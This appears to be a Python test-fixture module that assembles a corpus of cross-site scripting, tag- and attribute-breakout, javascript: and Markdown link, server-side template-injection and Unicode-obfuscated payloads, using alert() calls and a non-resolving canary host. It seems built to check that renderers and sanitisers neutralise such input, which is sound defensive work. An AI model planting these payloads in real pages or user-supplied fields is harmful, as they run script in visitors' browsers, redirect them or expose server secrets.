"""Text that is harmless as text, and does harm wherever it is rendered.

Whatever is executed calls `alert`; whatever is loaded comes from `CANARY_HOST`; a template engine would print
`COMPUTED`.
"""

CANARY_HOST = "canary.invalid"
COMPUTED = "62710561"
_URL = f"https://{CANARY_HOST}/x"

MARKUP = (
    "<script>alert(1)</script>",
    f"<script src={_URL}.js></script>",
    "<ScRiPt >alert(2)</sCrIpT >",
    "<img src=x onerror=alert(3)>",
    f'<img src="{_URL}.png">',
    "<svg/onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<body onload=alert(6)>",
    "<details open ontoggle=alert(7)>",
    "<input autofocus onfocus=alert(8)>",
    '<iframe srcdoc="<script>parent.alert(9)</script>"></iframe>',
    '<iframe src="javascript:parent.alert(10)"></iframe>',
    f'<link rel=stylesheet href="{_URL}.css">',
    f"<style>@import '{_URL}2.css'; * {{ background: url({_URL}3.png) }}</style>",
    f'<object data="{_URL}.svg"></object><embed src="{_URL}.swf">',
    f'<video poster="{_URL}4.png"><source src="{_URL}.mp4" onerror=alert(11)></video>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(12)&gt;">',
)
"""HTML that executes by itself."""

BREAKOUTS = (
    """"'></pre></bdi></details><script>alert(13)</script>""",
    """' onmouseover=alert(14) autofocus onfocus=alert(14) x='""",
    """" onmouseover=alert(15) autofocus onfocus=alert(15) x=\"""",
    "</title><script>alert(16)</script>",
    "</textarea></select></style><script>alert(17)</script>",
    "--><script>alert(18)</script><!--",
    "]]><script>alert(19)</script>",
    "';alert(20);//\\\";alert(20);//</script><script>alert(20)</script>",
    f"<base href=https://{CANARY_HOST}/>",
    f'<meta http-equiv=refresh content="0;url={_URL}">',
    f"<form action={_URL}><button autofocus>x</button>",
)
"""Text that closes the element or attribute around it, or redirects the page."""

LINKS = (
    "javascript:alert(21)",
    "[look](javascript:alert(22))",
    '<a href="jav&#x09;ascript:alert(23)">look</a>',
    "data:text/html,<script>alert(24)</script>",
    f"![look]({_URL}5.png)",
    f"[![look]({_URL}6.png)]({_URL})",
    f"![look][1]\n\n[1]: {_URL}7.png",
    f"<{_URL}>",
    f"//{CANARY_HOST}/y",
)
"""Links, in HTML and Markdown."""

TEMPLATES = (
    "{{ 7919*7919 }}{% debug %}{{ request.user.password }}",
    "${7919*7919}#{7919*7919}<%= 7919*7919 %>{{constructor.constructor('alert(25)')()}}",
    "{{ 7919|add:62702642 }}{% include 'admin/base.html' %}{% csrf_token %}",
)

UNICODE = (
    "\u202e<script>alert(26)</script>\u202c",
    "\uff1cscript\uff1ealert(27)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(28)+ADw-/script+AD4-",
    "<scr\u200bipt>alert(29)</scr\u200bipt>\u2028alert(29)\u2029",
    "\x1b]8;;https://canary.invalid\x07look\x1b]8;;\x07\x1b[2J",
    "<\u017fcript>alert(30)</\u017fcript>",
    "&lt;script&gt;alert(31)&lt;/script&gt; &#60;script&#62;",
)

CORPUS = (*MARKUP, *BREAKOUTS, *LINKS, *TEMPLATES, *UNICODE)
